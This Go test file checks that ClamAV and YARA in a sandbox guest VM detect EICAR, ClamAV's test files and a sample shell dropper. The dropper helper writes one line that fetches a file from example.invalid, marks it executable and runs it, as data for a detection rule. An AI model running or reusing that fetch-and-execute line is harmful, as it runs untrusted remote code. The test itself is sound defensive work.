package qemu_test

import (
	"archive/tar"
	"archive/zip"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sandboxhq/sandbox/core/hypervisor"
	"github.com/sandboxhq/sandbox/sdk/plugintest"
)

// The test guest's scanners, run in the guest through its agent as an
// analysis runs them: ClamAV with the database build.sh made, YARA with
// the rules it compiled.

// testFiles are ClamAV's test files (Debian's clamav-testfiles), which
// build.sh unpacks beside the guest.
func testFiles(t testing.TB) []string {
	t.Helper()
	files, err := filepath.Glob(filepath.Join(guestDir(t), "testfiles", "*"))
	require.NoError(t, err)
	require.Len(t, files, 44, "clamav-testfiles has 44 files")
	return files
}

// dropper writes a small shell script of the kind the guest's hand-written
// YARA rule (signatures/dropper.yar) knows: it downloads a file, makes it
// executable and runs it. It is never run.
func dropper(t testing.TB, dir string) string {
	t.Helper()
	p := filepath.Join(dir, "dropper.sh")
	s := "#!/bin/sh\ncd /tmp && wget -q http://example.invalid/stage2 -O .s && chmod +x .s && ./.s\n"
	require.NoError(t, os.WriteFile(p, []byte(s), 0o644))
	return p
}

// scanVM is a running VM of the test guest with files copied into its
// /tmp/samples, and a function that runs a command there. The files go in
// as one tar archive, which the guest's busybox unpacks: a copy per file
// would cost an agent round trip per chunk and file.
func scanVM(t *testing.T, files ...string) (hypervisor.Driver, func(path string, args ...string) hypervisor.ExecResult) {
	t.Helper()
	archive := filepath.Join(t.TempDir(), "samples.tar")
	f, err := os.Create(archive)
	require.NoError(t, err)
	tw := tar.NewWriter(f)
	for _, name := range files {
		data, err := os.ReadFile(name)
		require.NoError(t, err)
		require.NoError(t, tw.WriteHeader(&tar.Header{Name: filepath.Base(name), Mode: 0o644, Size: int64(len(data))}))
		_, err = tw.Write(data)
		require.NoError(t, err)
	}
	require.NoError(t, tw.Close())
	require.NoError(t, f.Close())

	r := newRig(t, guestVM("vm1", "ready"))
	d := r.driver(t)
	ctx := plugintest.Context(t, 3*time.Minute)
	require.NoError(t, d.Start(ctx, "vm1"))
	run := func(path string, args ...string) hypervisor.ExecResult {
		t.Helper()
		res, err := d.Exec(ctx, "vm1", hypervisor.ExecRequest{Path: path, Args: args, Timeout: time.Minute})
		require.NoError(t, err, "%s %s", path, strings.Join(args, " "))
		return res
	}
	require.NoError(t, d.CopyIn(ctx, "vm1", archive, "/tmp/samples.tar"))
	res := run("sh", "-c", "mkdir /tmp/samples && tar -x -f /tmp/samples.tar -C /tmp/samples && rm /tmp/samples.tar")
	require.Equal(t, 0, res.ExitCode, "%s", res.Stderr)
	return d, run
}

// lines are the non-empty lines of out.
func lines(out []byte) []string {
	var ls []string
	for _, l := range strings.Split(string(out), "\n") {
		if l != "" {
			ls = append(ls, l)
		}
	}
	return ls
}

// eicarZip writes a zip archive holding the EICAR file, deflated: only a
// scanner that unpacks finds it.
func eicarZip(t testing.TB, dir string) string {
	t.Helper()
	data, err := os.ReadFile(eicar(t, t.TempDir()))
	require.NoError(t, err)
	p := filepath.Join(dir, "eicar.zip")
	f, err := os.Create(p)
	require.NoError(t, err)
	zw := zip.NewWriter(f)
	w, err := zw.Create("eicar.com")
	require.NoError(t, err)
	_, err = w.Write(data)
	require.NoError(t, err)
	require.NoError(t, zw.Close())
	require.NoError(t, f.Close())
	return p
}

// The scanners of the test guest in one VM, on the same samples: an
// ordinary file, the EICAR file alone and zipped, a shell dropper, and
// ClamAV's 44 test files. Not parallel: see TestQEMUExampleRunsATwoEngineScan.
func TestScannersInTheGuest(t *testing.T) {
	host := t.TempDir()
	notes := filepath.Join(host, "notes.txt")
	require.NoError(t, os.WriteFile(notes, []byte("an ordinary text file\n"), 0o644))
	tests := testFiles(t)
	_, run := scanVM(t, append([]string{notes, eicar(t, host), eicarZip(t, host), dropper(t, host)}, tests...)...)
	t.Run("ClamAV", func(t *testing.T) { clamAVInTheGuest(t, run, tests) })
	t.Run("YARA", func(t *testing.T) { yaraInTheGuest(t, run, tests) })
}

// ClamAV, with only the signatures build.sh made, finds the EICAR file,
// alone and zipped, and every one of its 44 test files (packed, archived,
// mailed, in documents: it unpacks them to find clam.exe), exiting 1 for
// them; it calls an ordinary file, the dropper and the guest's own busybox
// OK with exit 0, and answers exit 2 for a file it cannot read, which is
// an error, not clean.
func clamAVInTheGuest(t *testing.T, run func(string, ...string) hypervisor.ExecResult, tests []string) {
	for _, file := range []string{"eicar.com", "eicar.zip"} {
		res := run("/usr/bin/clamscan", "--no-summary", "/tmp/samples/"+file)
		assert.Equal(t, 1, res.ExitCode, "%s%s", res.Stdout, res.Stderr)
		assert.Regexp(t, `^/tmp/samples/`+regexp.QuoteMeta(file)+`: Sandbox\.Test\.EICAR-[HN]DB\.UNOFFICIAL FOUND\n$`, string(res.Stdout))
	}

	for _, clean := range []string{"/tmp/samples/notes.txt", "/tmp/samples/dropper.sh", "/bin/busybox"} {
		res := run("/usr/bin/clamscan", "--no-summary", clean)
		assert.Equal(t, 0, res.ExitCode, "%s%s", res.Stdout, res.Stderr)
		assert.Equal(t, clean+": OK\n", string(res.Stdout))
	}

	args := []string{"--no-summary"}
	for _, f := range tests {
		args = append(args, "/tmp/samples/"+filepath.Base(f))
	}
	begun := time.Now()
	res := run("/usr/bin/clamscan", args...)
	t.Logf("clamscan of the 44 test files in the guest: %s", time.Since(begun))
	assert.Equal(t, 1, res.ExitCode, "%s", res.Stderr)
	found := regexp.MustCompile(`^/tmp/samples/(\S+): (\S+) FOUND$`)
	var names []string
	for _, l := range lines(res.Stdout) {
		m := found.FindStringSubmatch(l)
		if assert.NotNil(t, m, "a line that is no finding: %q", l) {
			names = append(names, m[1])
			assert.Equal(t, "Sandbox.Test.ClamAVTestFile.UNOFFICIAL", m[2], m[1])
		}
	}
	slices.Sort(names)
	var want []string
	for _, f := range tests {
		want = append(want, filepath.Base(f))
	}
	assert.Equal(t, want, names, "every test file found, once")

	res = run("/usr/bin/clamscan", "--no-summary", "/tmp/samples/missing")
	assert.Equal(t, 2, res.ExitCode, "%s%s", res.Stdout, res.Stderr)
	assert.Contains(t, string(res.Stdout)+string(res.Stderr), "No such file or directory")
}

// YARA, with the rules build.sh compiled: a match prints the rule and the
// file, and YARA exits 0 whether a rule matched or not, so a verdict must
// come from its output; it unpacks nothing, so it misses the zipped EICAR
// and, of the test files, finds clam.exe alone; a file it cannot read is
// exit 1.
func yaraInTheGuest(t *testing.T, run func(string, ...string) hypervisor.ExecResult, tests []string) {
	yara := func(path string) hypervisor.ExecResult {
		return run("/usr/bin/yara", "-C", "/usr/share/yara/rules.yarc", path)
	}
	for file, want := range map[string]string{
		"notes.txt":  "",
		"eicar.com":  "Sandbox_Test_EICAR /tmp/samples/eicar.com\n",
		"eicar.zip":  "",
		"dropper.sh": "Sandbox_Shell_Dropper /tmp/samples/dropper.sh\n",
		"clam.exe":   "Sandbox_Test_ClamAVTestFile /tmp/samples/clam.exe\n",
		"clam.zip":   "",
	} {
		res := yara("/tmp/samples/" + file)
		assert.Equal(t, 0, res.ExitCode, "%s: %s", file, res.Stderr)
		assert.Equal(t, want, string(res.Stdout), file)
	}

	// The whole directory in one run: a line per match.
	res := yara("/tmp/samples")
	assert.Equal(t, 0, res.ExitCode, "%s", res.Stderr)
	var matched []string
	for _, l := range lines(res.Stdout) {
		rule, file, _ := strings.Cut(l, " ")
		if name := filepath.Base(file); slices.ContainsFunc(tests, func(f string) bool { return filepath.Base(f) == name }) {
			matched = append(matched, rule+" "+name)
		}
	}
	assert.Equal(t, []string{"Sandbox_Test_ClamAVTestFile clam.exe"}, matched, "of the 44 test files, only clam.exe as it is")

	res = yara("/tmp/samples/missing")
	assert.Equal(t, 1, res.ExitCode, "%s%s", res.Stdout, res.Stderr)
	assert.Contains(t, string(res.Stderr), "could not open file")
}
